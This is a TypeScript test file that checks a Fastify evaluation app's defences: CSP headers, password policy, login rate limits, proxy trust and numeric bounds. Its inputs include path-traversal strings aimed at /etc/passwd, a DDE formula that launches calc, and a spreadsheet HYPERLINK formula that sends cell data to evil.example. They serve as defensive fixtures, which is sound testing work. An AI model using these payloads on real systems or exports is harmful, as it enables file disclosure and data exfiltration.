/**
 * Hostile users (issue 24) against the real app on a real SQLite file: the security headers and the
 * CSP on every kind of response, paths that are no route, the password policy, a password change
 * ending the other sessions, the current-password check limited, logins limited per address before per
 * account, and X-Forwarded-For believed only from the named proxies; numbers and texts within the
 * domain's bounds; exports that cannot execute; a deleted draft's records still readable.
 */
import { preparedSelfEvaluations } from '@jixiao/app';
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Evaluation } from '@jixiao/core';
import { connect, KyselyAccountStore, KyselyStore } from '@jixiao/store';
import { buildApp, weakPassword } from '../src/index.ts';
import { loginAs, TEST_PASSWORD } from './session.ts';

let store: KyselyStore;
let accounts: KyselyAccountStore;
let server: FastifyInstance;

beforeAll(async () => {
  const dir = mkdtempSync(join(tmpdir(), 'jixiao-security-'));
  store = new KyselyStore(await connect(join(dir, 'jixiao.sqlite')));
  accounts = new KyselyAccountStore(store.conn);
  // a web root of its own, so that the static files' answers are part of the test
  const web = join(dir, 'web');
  mkdirSync(join(web, 'assets'), { recursive: true });
  writeFileSync(join(web, 'index.html'), '<!doctype html><title>t</title><script type="module" src="/assets/a.js"></script>');
  writeFileSync(join(web, 'assets', 'a.js'), 'export {}');
  server = await buildApp({ store, accounts, webRoot: web, logger: false, loginLimits: { perAccount: 5, perAddress: 1000 } });
});
afterAll(async () => {
  await server.close();
  await store.close();
});

const EXPECTED = {
  'content-security-policy': expect.stringContaining("script-src 'self';"),
  'x-content-type-options': 'nosniff',
  'x-frame-options': 'DENY',
  'referrer-policy': 'same-origin',
};

describe('headers on every response', () => {
  it('the API, a 401, a 404, a bad request, the UI, a static file and /docs all carry the CSP and the rest', async () => {
    const answers = [
      await server.inject('/api/health'),
      await server.inject('/api/departments'),
      await server.inject('/no-such-page.php'),
      await server.inject({ method: 'POST', url: '/api/login', headers: { 'content-type': 'application/json' }, payload: '{not json' }),
      await server.inject('/'),
      await server.inject('/assets/a.js'),
      await server.inject('/docs/json'),
      await server.inject('/%'),
    ];
    // /docs is for administrators: an anonymous client gets 401 there too (issue 23)
    expect(answers.map((a) => a.statusCode)).toEqual([200, 401, 404, 400, 200, 200, 401, 404]);
    for (const a of answers) expect(a.headers).toMatchObject(EXPECTED);
    const csp = String(answers[0]!.headers['content-security-policy']);
    // no way for a script to come from elsewhere than this server's own files
    expect(csp).not.toMatch(/unsafe-inline[^;]*;[^;]*script|script-src[^;]*(unsafe|data:|\*)/);
    expect(csp).toMatch(/frame-ancestors 'none'/);
    expect(csp).toMatch(/object-src 'none'/);
  });
});

describe('every path that is not a route is a 404, never a 500', () => {
  it('traversals, encoded traversals, NUL bytes and directories: 404 NOT_FOUND, nothing logged as an error', async () => {
    // the app's own log lines, to read their levels (pino: 50 is error)
    const lines: Array<{ level: number; msg?: string }> = [];
    const web = join(mkdtempSync(join(tmpdir(), 'jixiao-security-web-')), 'web');
    mkdirSync(join(web, 'assets'), { recursive: true });
    writeFileSync(join(web, 'index.html'), '<!doctype html><title>t</title>');
    const logged = await buildApp({
      store,
      accounts,
      webRoot: web,
      logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } },
    });
    // over a real socket: inject() would normalise `..` before the server sees it
    await logged.listen({ port: 0, host: '127.0.0.1' });
    const { port } = logged.server.address() as { port: number };
    const { request } = await import('node:http');
    const get = (path: string) =>
      new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = request({ host: '127.0.0.1', port, path, method: 'GET' }, (res) => {
          let body = '';
          res.on('data', (c) => (body += c));
          res.on('end', () => resolve({ status: res.statusCode!, body }));
        });
        req.on('error', reject);
        req.end();
      });
    for (const path of [
      '/../../etc/passwd',
      '/%2e%2e/%2e%2e/etc/passwd',
      '/..%2f..%2fetc%2fpasswd',
      '/assets/../../../etc/passwd',
      '/assets/..%2f..%2f..%2fetc%2fpasswd',
      '/a%00b',
      '/..\\..\\etc\\passwd',
      '//etc/passwd',
      '/index.html/..',
      '/assets/',
      '/%c0%ae%c0%ae/etc/passwd',
      '/api/../../etc/passwd',
    ]) {
      const res = await get(path);
      expect(res.status, path).toBe(404);
      expect(JSON.parse(res.body), path).toMatchObject({ code: 'NOT_FOUND' });
      expect(res.body).not.toContain('root:');
    }
    // the API documents' files answer nobody but an administrator (issue 23): a traversal there is refused first
    const docs = await get('/docs/static/..%2f..%2fpackage.json');
    expect(docs.status).toBe(401);
    expect(docs.body).not.toContain('"dependencies"');
    // client mistakes: an info line each, no error
    expect(lines.filter((l) => l.level >= 50)).toEqual([]);
    expect(lines.some((l) => l.level === 30 && l.msg === '没有这个地址')).toBe(true);
    await logged.close();
  });

  it('a fault of the server is a 500 INTERNAL, logged at error level; a refused request is not', async () => {
    const lines: Array<{ level: number }> = [];
    const app = await buildApp({
      store,
      accounts,
      logger: { level: 'info', stream: { write: (l: string) => void lines.push(JSON.parse(l) as { level: number }) } },
    });
    // a route that fails as a bug would (outside /api: no session needed)
    app.get('/boom-for-test', async () => {
      throw new Error('boom');
    });
    const res = await app.inject('/boom-for-test');
    expect(res.statusCode).toBe(500);
    expect(res.json()).toMatchObject({ code: 'INTERNAL' });
    expect(lines.filter((l) => l.level >= 50)).toHaveLength(1);
    expect((await app.inject('/api/departments')).statusCode).toBe(401);
    expect(lines.filter((l) => l.level >= 50)).toHaveLength(1);
    await app.close();
  });
});

describe('passwords', () => {
  it('the policy: 10 characters, letters and digits, not a common one nor a common word dressed up, not the user name', () => {
    for (const p of [
      'short1a',
      'onlyletterss',
      '12345678901',
      'password12',
      'Password123',
      'P@ssw0rd12',
      'admin12345',
      'Admin@2024!',
      'woaini1314',
      'qwertyuiop1',
      '1q2w3e4r5t',
      'jixiao2023!',
      'aaaaaaaaaa1',
    ])
      expect(weakPassword(p), p).not.toBeNull();
    expect(weakPassword('zhangsan-2024a', 'zhangsan')).toBe('密码不能包含用户名');
    expect(weakPassword('password12')).toMatch(/常见/);
    for (const p of ['绿色山河7号-tiger', 'correct-horse-42', TEST_PASSWORD]) expect(weakPassword(p), p).toBeNull();
  });

  it('a change of password ends the user’s other sessions, keeps this one, and refuses a common password in Chinese', async () => {
    const here = await loginAs(server, accounts, { username: 'chen', role: 'admin' });
    const elsewhere = await loginAs(server, accounts, { username: 'chen', role: 'admin' });
    const weak = await here.inject({ method: 'PUT', url: '/api/session/password', payload: { current: TEST_PASSWORD, next: 'password12' } });
    expect(weak.statusCode).toBe(422);
    expect(weak.json()).toMatchObject({ code: 'AUTH.WEAK_PASSWORD', message: expect.stringMatching(/[\u4e00-\u9fa5]/) });
    expect((await elsewhere.inject('/api/session')).statusCode).toBe(200);
    const ok = await here.inject({ method: 'PUT', url: '/api/session/password', payload: { current: TEST_PASSWORD, next: 'new-pass-word-77' } });
    expect(ok.statusCode).toBe(200);
    expect((await elsewhere.inject('/api/session')).json()).toMatchObject({ code: 'AUTH.REQUIRED' });
    expect((await here.inject('/api/session')).statusCode).toBe(200);
    const back = await here.inject({ method: 'PUT', url: '/api/session/password', payload: { current: 'new-pass-word-77', next: TEST_PASSWORD } });
    expect(back.statusCode).toBe(200);
  });

  it('the current-password check is limited like a login: after 5 wrong ones even the right one gets 429', async () => {
    const c = await loginAs(server, accounts, { username: 'sun', role: 'admin' });
    for (let i = 0; i < 5; i++)
      expect((await c.inject({ method: 'PUT', url: '/api/session/password', payload: { current: `guess-${i}-xx`, next: 'another-pass-88' } })).statusCode).toBe(
        422,
      );
    const limited = await c.inject({ method: 'PUT', url: '/api/session/password', payload: { current: TEST_PASSWORD, next: 'another-pass-88' } });
    expect(limited.statusCode).toBe(429);
    expect(limited.json()).toMatchObject({ code: 'AUTH.RATE_LIMITED' });
    expect(Number(limited.headers['retry-after'])).toBeGreaterThan(0);
  });
});

describe('login limits and proxies', () => {
  const attempt = (app: FastifyInstance, username: string, password: string, ip: string, headers: Record<string, string> = {}) =>
    app.inject({ method: 'POST', url: '/api/login', payload: { username, password }, remoteAddress: ip, headers });

  it('a stranger guessing admin’s password is stopped at his own address; admin at another address still logs in', async () => {
    await loginAs(server, accounts, { username: 'boss', role: 'admin' });
    const app = await buildApp({ store, accounts, loginLimits: { perAccount: 5, perAddress: 20 } });
    // admin has logged in from the office before
    expect((await attempt(app, 'boss', TEST_PASSWORD, '10.0.0.5')).statusCode).toBe(200);
    const codes: number[] = [];
    for (let i = 0; i < 30; i++) codes.push((await attempt(app, 'boss', `guess-${i}`, '203.0.113.9')).statusCode);
    expect(codes.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(codes.slice(5)).toEqual(Array(25).fill(429));
    expect((await attempt(app, 'boss', TEST_PASSWORD, '203.0.113.9')).statusCode).toBe(429);
    // from the office, and from an address never seen: the stranger locked out nobody but himself
    expect((await attempt(app, 'boss', TEST_PASSWORD, '10.0.0.5')).statusCode).toBe(200);
    expect((await attempt(app, 'boss', TEST_PASSWORD, '198.51.100.7')).statusCode).toBe(200);
    await app.close();
  });

  it('a crowd of addresses does lock the account — except for an address it logged in from before', async () => {
    const app = await buildApp({ store, accounts, loginLimits: { perAccount: 5, perAddress: 20, perAccountAll: 12 } });
    expect((await attempt(app, 'boss', TEST_PASSWORD, '10.0.0.5')).statusCode).toBe(200);
    for (let i = 0; i < 12; i++) expect((await attempt(app, 'boss', 'wrong-one', `203.0.113.${i + 1}`)).statusCode).toBe(401);
    expect((await attempt(app, 'boss', TEST_PASSWORD, '198.51.100.7')).statusCode).toBe(429);
    expect((await attempt(app, 'boss', TEST_PASSWORD, '10.0.0.5')).statusCode).toBe(200);
    await app.close();
  });

  it('X-Forwarded-For: from a named proxy the last hop counts; a client’s own header cannot dodge the address limit', async () => {
    // the trial: 40 attempts, each with a made-up X-Forwarded-For, through the trusted proxy
    for (const trustProxy of [1, ['127.0.0.1']] as const) {
      const app = await buildApp({ store, accounts, trustProxy, loginLimits: { perAccount: 100, perAddress: 10 } });
      const codes: number[] = [];
      for (let i = 0; i < 40; i++)
        codes.push((await attempt(app, `nobody${i}`, 'x', '127.0.0.1', { 'x-forwarded-for': `198.51.100.${i}, 203.0.113.50` })).statusCode);
      expect(codes.filter((c) => c === 429).length, String(trustProxy)).toBe(30);
      await app.close();
    }
    // a proxy that is not on the list is not believed at all: its peer address counts
    const app = await buildApp({ store, accounts, trustProxy: ['10.9.9.9'], loginLimits: { perAccount: 100, perAddress: 3 } });
    const codes: number[] = [];
    for (let i = 0; i < 5; i++) codes.push((await attempt(app, `x${i}`, 'x', '127.0.0.2', { 'x-forwarded-for': `198.51.100.${i}` })).statusCode);
    expect(codes).toEqual([401, 401, 401, 429, 429]);
    await app.close();
  });
});

describe('numbers within the domain, at the API edge and in the import', () => {
  const golden = (f: string) => JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden', f), 'utf8')) as Evaluation;
  let admin: Awaited<ReturnType<typeof loginAs>>;
  let dept: number;
  beforeAll(async () => {
    admin = await loginAs(server, accounts, { username: 'numbers-admin', role: 'admin' });
    dept = (await store.ensureDepartment({ code: 'numbers', name: '数值部门' })).id;
  });

  it('a budget of 1 and 25 zeros, points of 5000, a year of −5 or 99999999, a 10 MB name: 422 with a code and the field; totals still answer', async () => {
    const ev = golden('hebei-dachang-zhengfawei-2023.form-01.json');
    const huge = '1' + '0'.repeat(25);
    const cases: Array<[unknown, string, RegExp]> = [
      [
        { ...ev, budget: { ...ev.budget, lines: [{ ...ev.budget.lines[0]!, adjusted: { raw: huge, value: huge } }] } },
        'VALUE.OUT_OF_RANGE',
        /^evaluation\.budget\.lines\.0\.adjusted\.value$/,
      ],
      [
        { ...ev, indicators: [{ ...ev.indicators[0]!, points: { raw: '5000', value: '5000' } }] },
        'VALUE.OUT_OF_RANGE',
        /^evaluation\.indicators\.0\.points\.value$/,
      ],
      [{ ...ev, year: -5 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
      [{ ...ev, year: 99_999_999 }, 'VALUE.OUT_OF_RANGE', /^evaluation\.year$/],
      [{ ...ev, project: { ...ev.project, name: { raw: 'x'.repeat(10 * 1024 * 1024) } } }, 'VALUE.TOO_LONG', /^evaluation\.project\.name\.raw$/],
    ];
    for (const [evaluation, code, field] of cases) {
      const res = await admin.inject({ method: 'POST', url: '/api/evaluations', payload: { departmentId: dept, evaluation } });
      expect(res.statusCode, code).toBe(422);
      const body = res.json() as { code: string; message: string; details: { field: string } };
      expect(body.code).toBe(code);
      expect(body.details.field).toMatch(field);
      expect(body.message).toMatch(/[\u4e00-\u9fa5]/);
    }
    expect(await store.listEvaluations({ departmentId: dept })).toEqual([]);
    expect((await admin.inject('/api/departments/totals')).statusCode).toBe(200);
  });

  it('a million-digit value in POST /api/score is refused at once, before any arithmetic', async () => {
    const ev = golden('hebei-dachang-zhengfawei-2023.form-01.json');
    const huge = '9'.repeat(1_000_000);
    const t0 = performance.now();
    const res = await admin.inject({ method: 'POST', url: '/api/score', payload: { evaluation: { ...ev, claimed: { total: { raw: '很大', value: huge } } } } });
    const ms = performance.now() - t0;
    expect(res.statusCode).toBe(422);
    expect(res.json()).toMatchObject({ code: 'VALUE.OUT_OF_RANGE', details: { field: 'evaluation.claimed.total.value' } });
    expect(ms).toBeLessThan(1000);
  });

  it('an imported figure out of range is a note of the preview, not a stored number; money stays exact on save', async () => {
    const seed = readFileSync(join(import.meta.dirname, '../../../fixtures/seeds/xinjiang-changji-zhengfawei-2021.txt'), 'utf8').split('\n');
    // the first form's 年度资金总额: 全年预算数 and 全年执行数
    expect(seed[26]).toBe('\t100.00');
    seed[26] = '\t10000000000000';
    seed[27] = '\t1' + '0'.repeat(25);
    const boundary = '----b' + Date.now();
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="big.txt"\r\nContent-Type: text/plain\r\n\r\n`),
      Buffer.from(seed.join('\n')),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const preview = await admin.inject({
      method: 'POST',
      url: '/api/import',
      payload,
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
    });
    expect(preview.statusCode).toBe(200);
    const body = preview.json() as { token: string; files: Array<{ notes: Array<{ code: string; message: string }> }> };
    const notes = body.files[0]!.notes.filter((n) => n.code === 'IMPORT.VALUE_OUT_OF_RANGE');
    expect(notes.map((n) => n.message)).toEqual([
      expect.stringContaining('第 1 张表预算资金“年度资金总额” · 全年预算数：“10000000000000”超出范围'),
      expect.stringContaining('第 1 张表预算资金“年度资金总额” · 全年执行数'),
    ]);
    const commit = await admin.inject({ method: 'POST', url: `/api/import/${body.token}/commit`, payload: { departmentId: dept } });
    expect(commit.statusCode).toBe(201);
    const stored = await store.listEvaluations({ departmentId: dept });
    const line = stored[0]!.evaluation.budget.lines[0]!;
    expect(line.adjusted).toMatchObject({ raw: '10000000000000', value: null });
    expect(line.executed).toMatchObject({ raw: '1' + '0'.repeat(25), value: null });
    const totals = await admin.inject('/api/departments/totals');
    expect(totals.statusCode).toBe(200);
  });
});

describe('exports and records', () => {
  it('history.csv: a name typed as a formula comes out as text', async () => {
    const admin = await loginAs(server, accounts, { username: 'csv-admin', role: 'admin' });
    const dept = (await store.ensureDepartment({ code: 'csv', name: 'CSV 部门' })).id;
    const ev = JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden/hebei-dachang-zhengfawei-2023.form-03.json'), 'utf8')) as Evaluation;
    const [saved] = await store.importEvaluations({ departmentId: dept, forms: preparedSelfEvaluations([ev]), actor: 'csv-admin' });
    const evil = {
      ...ev,
      project: { ...ev.project, name: { raw: "=cmd|' /C calc'!A0" } },
      goals: { ...ev.goals, expected: { raw: '=HYPERLINK("http://evil.example/?d="&A1,"点此")' } },
    };
    expect((await admin.inject({ method: 'PUT', url: `/api/evaluations/${saved!.id}`, payload: { version: 1, evaluation: evil } })).statusCode).toBe(200);
    const csv = (await admin.inject(`/api/evaluations/${saved!.id}/history.csv`)).body;
    expect(csv).toContain(`'=cmd|' /C calc'!A0`);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")"`);
    // no field of any line starts a formula
    for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+@\t\r]|^-[^\d-]/);
  });

  it('a deleted draft’s history and snapshots stay readable by its department’s users, and by nobody else', async () => {
    const dept = (await store.ensureDepartment({ code: 'deleted-drafts', name: '删除部门' })).id;
    const other = (await store.ensureDepartment({ code: 'other-dept', name: '其他部门' })).id;
    const filler = await loginAs(server, accounts, { username: 'del-filler', role: 'filler', departmentId: dept });
    const stranger = await loginAs(server, accounts, { username: 'del-stranger', role: 'filler', departmentId: other });
    const ev = JSON.parse(readFileSync(join(import.meta.dirname, '../../../fixtures/golden/hebei-dachang-zhengfawei-2023.form-04.json'), 'utf8')) as Evaluation;
    const [saved] = await store.importEvaluations({ departmentId: dept, forms: preparedSelfEvaluations([ev]), actor: 'del-filler' });
    expect((await filler.inject({ method: 'DELETE', url: `/api/evaluations/${saved!.id}?version=1` })).statusCode).toBe(204);
    expect((await filler.inject(`/api/evaluations/${saved!.id}`)).statusCode).toBe(404);
    for (const path of ['history', 'history.csv', 'snapshots']) {
      expect((await filler.inject(`/api/evaluations/${saved!.id}/${path}`)).statusCode, path).toBe(200);
      expect((await stranger.inject(`/api/evaluations/${saved!.id}/${path}`)).statusCode, path).toBe(404);
    }
    expect((await filler.inject(`/api/evaluations/${saved!.id}/history.csv`)).body).toContain('(删除)');
  });
});
